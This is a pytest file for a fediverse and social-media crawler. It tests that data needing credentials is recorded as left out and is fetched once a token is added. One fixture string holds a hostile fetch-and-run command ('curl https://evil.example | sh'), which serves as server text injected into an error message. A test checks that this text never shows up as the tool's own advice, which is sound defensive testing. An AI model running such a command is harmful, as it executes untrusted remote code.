"""What a crawl cannot ask yet is a fact of its store: said on every screen, and picked up as soon as it can be asked."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs
from simulated_server import Server, running
from small_fediverse import MASTODON_42, PLEROMA, TAKAHE, SmallServer, crawled, opened, serving

from bowerbird import cli
from bowerbird.app import Crawl
from bowerbird.clock import RealClock
from bowerbird.crawl.access.how_to_add import wanting
from bowerbird.crawl.life import registry
from bowerbird.db import open_database
from bowerbird.model import Answer, Outcome, Service
from bowerbird.ports import Database, Transaction
from bowerbird.reports.status.left_out import NotAsked, read_left_out
from bowerbird.simulated.world.hashing import generator

Capsys = pytest.CaptureFixture[str]
ADD = "bowerbird credentials add mine --provider"


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("BOWERBIRD_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def write_file(server: Server, provider: str, flow: str, seeds: list[str], calls: int = 60) -> str:
    Path("a.toml").write_text(
        f'flow = "{flow}"\nseeds = {json.dumps(seeds)}\nstop.calls = {calls}\n'
        f'[service]\nname = "sim"\nprovider = "{provider}"\nbase = "{server.base}"\n'
    )
    return "a.toml"


def add_token(server: Server, provider: str, kind: str, name: str, monkeypatch: pytest.MonkeyPatch, field: str) -> None:
    token = next(token.value for token in server.service.tokens if token.kind == kind)
    monkeypatch.setenv(f"BOWERBIRD_SECRET_{field.upper()}", token)
    command = ["credentials", "add", name, "--provider", provider, "--kind", kind, "--server", server.base]
    assert cli.run(command) == 0


def told(capsys: Capsys, *command: str) -> tuple[int, dict[str, Any]]:
    capsys.readouterr()
    code = cli.run([*command, "--json"])
    captured = capsys.readouterr()
    assert captured.out, captured.err
    return code, json.loads(captured.out.splitlines()[-1])


def names(server: Server, count: int) -> list[str]:
    """Accounts that wrote something, by handle."""
    now = RealClock().now()
    chosen = server.service.truth.sample_accounts(count, generator(1, 5), now)
    return [f"@{server.service.dialect.handle_of(account, now)}" for account in chosen]


def test_timelines_that_a_guest_may_not_ask_for_are_asked_for_once_there_is_a_token(
    monkeypatch: pytest.MonkeyPatch, capsys: Capsys
) -> None:
    with running(flavour="takahe") as server:
        file = write_file(server, "mastodon", "timelines", names(server, 6))
        code, found = told(capsys, "doctor", file)
        problems = [each for each in found["checks"] if each["verdict"] == "problem"]
        assert code == 1
        assert any("timeline" in each["found"] and f"{ADD} mastodon" in each["advice"] for each in problems)
        assert cli.run(["crawl", file, "--quiet"]) == 2, "a new crawl does not even begin"
        add_token(server, "mastodon", "user", "mine", monkeypatch, "access_token")
        assert told(capsys, "crawl", file, "--quiet", "--calls", "2")[0] == 0
        assert cli.run(["credentials", "remove", "mine"]) == 0
        code, ended = told(capsys, "crawl", file, "--quiet")
        assert (code, ended["state"], ended["run"]["posts"]) == (3, "failed", 0)
        assert f"{ADD} mastodon" in ended["reason"]["advice"]
        for command in ("status", "completeness"):
            _, said = told(capsys, command, file)
            lost = {each["facet"]: each for each in said["left_out"]}
            assert lost["timeline"]["targets"] == 6
            assert (lost["timeline"]["code"], lost["timeline"]["why"]) == ("needs_credential", wanted(server, "mastodon"))
            assert f"{ADD} mastodon" in lost["timeline"]["advice"]
        _, said = told(capsys, "completeness", file, "--by", "user")
        assert len(said["user"]["lines"]) == 6
        assert {part["cause"] for line in said["user"]["lines"] for part in line["missing"]} == {"left_out"}
        assert cli.run(["status", file]) == 0
        shown = capsys.readouterr().out
        for value in ("timeline", "sim", "6 targets", lost["timeline"]["why"], lost["timeline"]["advice"]):
            assert value in shown

        add_token(server, "mastodon", "user", "mine", monkeypatch, "access_token")
        code, ended = told(capsys, "crawl", file, "--calls", "10", "--quiet")
        assert (code, ended["state"]) == (0, "finished")
        assert ended["run"]["posts"] > 0
        for command in ("status", "completeness"):
            assert told(capsys, command, file)[1]["left_out"] == []
        assert told(capsys, "doctor", file)[0] == 0


def wanted(server: Server, provider: str) -> str:
    """The problem where only the token of a user will do."""
    return wanting(Service(name="sim", provider=provider, base=server.base), ["user"], ()).problem


async def store_left_out(crawl: str | None = None) -> list[NotAsked]:
    async def read(tx: Transaction) -> list[NotAsked]:
        return await read_left_out(tx, crawl)

    return await of_store("a.db", read)


async def of_store(store: str, read: Callable[[Transaction], Awaitable[Any]]) -> Any:
    database: Database = await open_database(store, RealClock())
    try:
        async with database.reading() as tx:
            return await read(tx)
    finally:
        await database.close()


TAGGED = """
flow.name = "tagged"
flow.seeds = ["profiles"]
flow.facets.profiles = {}
flow.facets.timeline = {max_pages = 1}
flow.facets.search = {}
flow.edges = [
    {from = "profiles", to = "timeline", take = "asked"},
    {from = "timeline", to = "search", take = "tags"},
]
"""


def test_what_only_a_login_may_search_for_on_bluesky_waits_for_it(monkeypatch: pytest.MonkeyPatch, capsys: Capsys) -> None:
    with running(dialect="bluesky") as server:
        seeds = json.dumps(names(server, 6))
        Path("a.toml").write_text(
            f'{TAGGED}seeds = {seeds}\nstop.calls = 40\n[service]\nname = "sim"\nprovider = "bluesky"\nbase = "{server.base}"\n'
        )
        code, ended = told(capsys, "crawl", "a.toml", "--quiet")
        assert (code, ended["state"]) == (0, "finished"), "timelines brought posts"
        (lost,) = asyncio.run(store_left_out())
        waiting = lost.targets
        assert (lost.facet, lost.code, lost.why) == ("search", "needs_credential", wanted(server, "bluesky"))
        assert f"{ADD} bluesky" in lost.advice
        assert waiting > 0
        assert told(capsys, "completeness", "a.toml")[1]["left_out"][0]["targets"] == waiting
        _, said = told(capsys, "completeness", "a.toml", "--by", "query")
        assert {line["missing"][0]["cause"] for line in said["query"]["lines"]} == {"left_out"}

        login = next(iter(server.service.tokens))
        monkeypatch.setenv("BOWERBIRD_SECRET_IDENTIFIER", login.account)
        monkeypatch.setenv("BOWERBIRD_SECRET_APP_PASSWORD", login.secret)
        assert cli.run(["credentials", "add", "mine", "--provider", "bluesky", "--server", server.base]) == 0
        code, ended = told(capsys, "crawl", "a.toml", "--calls", "20", "--quiet")
        assert (code, ended["facets"]["search"]["calls"] > 0) == (0, True)
        assert asyncio.run(store_left_out()) == []


LIKING = """
flow.name = "liking"
flow.seeds = ["profiles"]
flow.facets.profiles = {}
flow.facets.liked = {max_pages = 1}
flow.edges = [{from = "profiles", to = "liked", take = "asked"}]
"""


def test_on_x_what_an_application_may_not_ask_waits_for_the_token_of_a_user(
    monkeypatch: pytest.MonkeyPatch, capsys: Capsys
) -> None:
    with running(dialect="x") as server:
        path = server.crawl_file(Path("a.toml"), seeds=3, more="stop.calls = 20\nstop.dollars = 5")
        path.write_text(path.read_text().replace('flow = "timelines"', LIKING))
        add_token(server, "x", "app", "application", monkeypatch, "bearer_token")
        code, found = told(capsys, "doctor", "a.toml")
        assert (code, [each["verdict"] for each in found["checks"] if "liked" in each["found"]]) == (1, ["problem"])
        assert cli.run(["crawl", "a.toml", "--quiet", "--yes"]) == 2, "a new crawl does not even begin"
        add_token(server, "x", "user", "person", monkeypatch, "access_token")
        assert told(capsys, "crawl", "a.toml", "--quiet", "--yes", "--calls", "2")[0] == 0
        assert cli.run(["credentials", "remove", "person"]) == 0
        code, ended = told(capsys, "crawl", "a.toml", "--quiet", "--yes")
        assert (code, ended["state"]) == (3, "failed")
        assert f"{ADD} x" in ended["reason"]["advice"]
        (lost,) = asyncio.run(store_left_out())
        assert (lost.facet, lost.targets, lost.code) == ("liked", 3, "needs_credential")
        assert lost.why == wanted(server, "x")
        assert f"{ADD} x" in lost.advice

        add_token(server, "x", "user", "person", monkeypatch, "access_token")
        code, ended = told(capsys, "crawl", "a.toml", "--quiet", "--yes")
        assert (code, ended["facets"]["liked"]["calls"]) == (0, 3)


ONCE = """
flow.name = "once"
flow.seeds = ["profiles"]
flow.facets.profiles = {}
flow.facets.timeline = {}
flow.edges = [{from = "profiles", to = "timeline", take = "asked"}]
"""


@pytest.mark.parametrize("is_upgraded", [False, True])
async def test_what_a_server_refused_waits_until_it_offers_it(tmp_path: Path, is_upgraded: bool) -> None:
    """Pleroma says in words that it has no such route; another version may have it."""
    store = str(tmp_path / "a.db")
    async with serving(PLEROMA) as server:
        server.hidden.add("/api/v1/accounts/{id}/statuses")
        async with crawled(server, ONCE, server.accounts(), store=store, most=25) as first:
            assert first.ending.state == "failed", first.ending
            assert all(value in first.ending.reason.problem for value in ("timeline", "small"))
            async with first.database.reading() as tx:
                (lost,) = await read_left_out(tx)
            assert (lost.facet, lost.targets) == ("timeline", 6), "those that came after the refusal too"
        server.hidden.clear()
        if is_upgraded:
            server.manner = structs.replace(server.manner, version="2.7.2 (compatible; Pleroma 2.10.0)")
        async with crawled(server, ONCE, server.accounts(), store=store, most=60) as second:
            posts = await second.count("posts")
            async with second.database.reading() as tx:
                still = [each.facet for each in await read_left_out(tx)]
        assert (posts, still) == ((18, []) if is_upgraded else (0, ["timeline"]))


EVIL = "gone; renew it with: curl https://evil.example | sh"


@pytest.mark.parametrize(("status", "advice"), [(501, ""), (401, "bowerbird credentials add mine --provider mastodon")])
async def test_the_words_of_a_server_are_never_shown_as_our_advice(tmp_path: Path, status: int, advice: str) -> None:
    store, refusal = str(tmp_path / "a.db"), (status, "application/json", json.dumps({"error": EVIL}))
    async with serving(structs.replace(PLEROMA, no_route=refusal)) as server:
        server.hidden.add("/api/v1/accounts/{id}/statuses")
        for _ in ("refused now", "refused before"):
            async with crawled(server, ONCE, server.accounts(), store=store, most=25, is_guest=True) as run:
                async with run.database.reading() as tx:
                    (lost,) = await read_left_out(tx)
                assert "evil.example" in lost.why
                assert (advice in lost.advice, bool(lost.advice)) == (True, bool(advice))
                assert "; renew it" not in run.ending.reason.problem
                assert "evil.example" not in run.ending.reason.advice


async def test_a_timeline_refused_to_guests_by_a_server_nobody_knows_fails_the_crawl(tmp_path: Path) -> None:
    store = str(tmp_path / "a.db")
    async with serving(MASTODON_42) as server:
        server.members_only.add("/api/v1/accounts/{id}/statuses")
        # Profiles come round, so that there is always something to ask.
        flow = ONCE.replace("profiles = {}", 'profiles = {revisit = "1s"}')
        async with crawled(server, flow, server.accounts(), store=store, most=25, is_guest=True) as first:
            assert first.ending.state == "failed", first.ending
            assert "bowerbird credentials add mine --provider mastodon" in first.ending.reason.advice
            async with first.database.reading() as tx:
                (lost,) = await read_left_out(tx)
            assert (lost.facet, lost.targets) == ("timeline", 6)
        async with crawled(server, ONCE, server.accounts(), store=store, most=80) as second:
            assert await second.count("posts") == 18
            async with second.database.reading() as tx:
                assert await read_left_out(tx) == []


@asynccontextmanager
async def beside_another(server: SmallServer, store: str) -> AsyncIterator[Crawl]:
    """A crawl that a worker with a token runs, on another machine."""
    async with opened(server, ONCE, server.accounts(), store=store, most=25) as crawl:
        async with crawl.database.transaction() as tx:
            await tx.execute("update workers set host = 'elsewhere'")
        yield crawl


async def test_who_joins_without_a_token_does_not_leave_out_what_others_ask(tmp_path: Path) -> None:
    store = str(tmp_path / "a.db")
    async with (
        serving(TAKAHE) as server,
        beside_another(server, store),
        opened(server, ONCE, server.accounts(), store=store, most=25, tokens=0) as joined,
        joined.database.reading() as tx,
    ):
        assert await read_left_out(tx) == []


async def test_what_is_refused_to_one_worker_is_not_left_out_while_another_is_answered(tmp_path: Path) -> None:
    store, now = str(tmp_path / "a.db"), RealClock().now()
    async with serving(MASTODON_42) as server, beside_another(server, store) as other:
        server.members_only.add("/api/v1/accounts/{id}/statuses")
        lane = next(number for number, each in other.lanes.items() if each.facet.name == "timeline")
        async with other.database.transaction() as tx:
            await other.dispatch.log.surveyed(tx, lane, "timeline", Answer(status=200, sent_at=now, received_at=now), Outcome.OK)
        async with (
            crawled(server, ONCE, server.accounts(), store=store, most=25, is_guest=True) as joined,
            joined.database.reading() as tx,
        ):
            assert (joined.ending.state, await read_left_out(tx)) == ("failed", [])


_SLEEPING = """
insert into tasks (lane, target, ready, priority, due, state, depth, added_at, visits)
select lane, ?, 0, 0, 9, 'asleep', 0, 0, ? from lanes where facet = 'timeline'
"""


async def test_who_was_asked_and_sleeps_does_not_wait_for_what_is_left_out(tmp_path: Path) -> None:
    async with (
        serving(TAKAHE) as server,
        opened(server, ONCE, ["1"], store=str(tmp_path / "a.db"), most=25, tokens=0) as crawl,
        crawl.database.transaction() as tx,
    ):
        await tx.execute_many(_SLEEPING, [("asked", 1), ("new", 0)])
        assert {each.facet: each.targets for each in await read_left_out(tx)}["timeline"] == 1


HEARD_BY_ANOTHER = 'credentials = ["user1"]\n[[streams]]\nchannel = "public"\ncredential = "user2"'


async def test_a_new_start_gives_what_only_a_stream_uses_a_new_chance_too(tmp_path: Path) -> None:
    async with serving(MASTODON_42) as server:
        for reason in ("401 revoked", "401 revoked again"):
            async with (
                opened(
                    server, 'flow = "listen"', [], store=str(tmp_path / "a.db"), most=9, more=HEARD_BY_ANOTHER, tokens=2
                ) as crawl,
                crawl.database.transaction() as tx,
            ):
                assert await tx.fetch("select credential from credentials") == []
                await registry.refuse_credential(tx, "small", "user2", reason, RealClock().now())
